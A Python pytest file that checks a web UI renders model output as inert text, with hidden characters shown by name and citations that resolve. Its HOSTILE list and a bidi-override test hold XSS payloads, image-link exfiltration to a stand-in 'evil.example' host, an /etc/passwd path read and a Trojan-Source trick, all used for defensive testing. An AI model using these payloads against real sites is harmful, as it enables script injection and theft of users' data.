"""A model's words are text: nothing in them becomes active, hidden characters are seen, citations resolve."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from pipeline.types import CodeFile, Passage
from pipeline.web.ui.code import language_of, lines
from pipeline.web.ui.plain import visible
from pipeline.web.ui.prose import prose

ALLOWED = {
    *("a", "blockquote", "br", "code", "div", "em", "hr", "li", "ol", "p", "pre", "span", "strong", "ul"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "td", "th", "thead", "tr"),
}
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/steal?d=1)",
    "![x][1]\n\n[1]: https://evil.example/steal",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/gradio_api/file=/etc/passwd)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '[x](https://example.org/"onmouseover="alert(1))',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
)


class Elements(HTMLParser):
    """The elements that a browser would make of a text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def is_inert(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED, tag
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "src", "srcdoc", "id")]
        href = attributes.get("href")
        assert href is None or re.match(r"https?://|#cc-source-\d+$", href), href


@pytest.mark.parametrize("text", HOSTILE)
def test_no_markdown_becomes_active(text: str) -> None:
    is_inert(str(prose(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_code_becomes_active(text: str) -> None:
    for path in ("main.py", "index.html", "notes.md", "data.bin"):
        is_inert("".join(map(str, lines(CodeFile(path, text)))))


def test_the_known_payloads_stay_text(shared: Path) -> None:
    rows = [
        json.loads(line) for line in (shared / "security" / "output_payloads.jsonl").read_text("utf-8").splitlines()
    ]
    assert len(rows) >= 30
    for row in rows:
        is_inert(str(prose(row["payload"])))
        is_inert("".join(map(str, lines(CodeFile("main.py", row["payload"])))))


def test_hidden_characters_are_shown_by_their_names() -> None:
    trick = "access = 'user\u202e \u2066# admin\u2069'"
    assert "U+202E" in visible(trick)
    assert "U+202E" in "".join(lines(CodeFile("main.py", trick)))
    assert "U+202E" in prose(trick)
    assert "U+001B" in visible("\x1b[31mred")
    assert "\u202e" not in visible(trick) + prose(trick) + "".join(lines(CodeFile("main.py", trick)))


def test_a_citation_leads_to_its_source(passages: tuple[Passage, ...]) -> None:
    html = prose("Routers split by resource [1] and [2].", passages)
    assert 'href="#cc-source-1"' in html
    assert 'href="#cc-source-2"' in html
    assert passages[0].title in html


def test_a_citation_of_nothing_leads_nowhere(passages: tuple[Passage, ...]) -> None:
    html = prose("As shown [7] and [0].", passages)
    assert "href" not in html
    assert "There is no such source" in html


def test_brackets_in_code_are_no_citations(passages: tuple[Passage, ...]) -> None:
    html = prose("`rows[1]` and\n\n```python\nrows[1]\n```", passages)
    assert "cc-source" not in html


def test_a_link_says_where_it_leads() -> None:
    html = prose("[the docs](https://example.org/a)")
    assert "(example.org)" in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    ("path", "language"),
    [
        ("main.py", "python"),
        ("Dockerfile", "docker"),
        ("deploy/k8s.yaml", "yaml"),
        ("a.unknown", "text"),
        ("pyproject.toml", "toml"),
    ],
)
def test_the_language_follows_from_the_name(path: str, language: str) -> None:
    assert language_of(path) == language


@pytest.mark.parametrize("path", ["main.py", "notes.txt", "Dockerfile", "k8s.yaml"])
@pytest.mark.parametrize("text", ["", "\n", "a\n", "a", "\n\na\n\n", '"""one\n\ntwo"""\nx = 1\n', "a\r\nb\r\n"])
def test_highlighting_keeps_every_line(path: str, text: str) -> None:
    shown = [re.sub(r"<[^>]+>", "", str(line)) for line in lines(CodeFile(path, text))]
    assert len(shown) == len(text.removesuffix("\n").split("\n"))
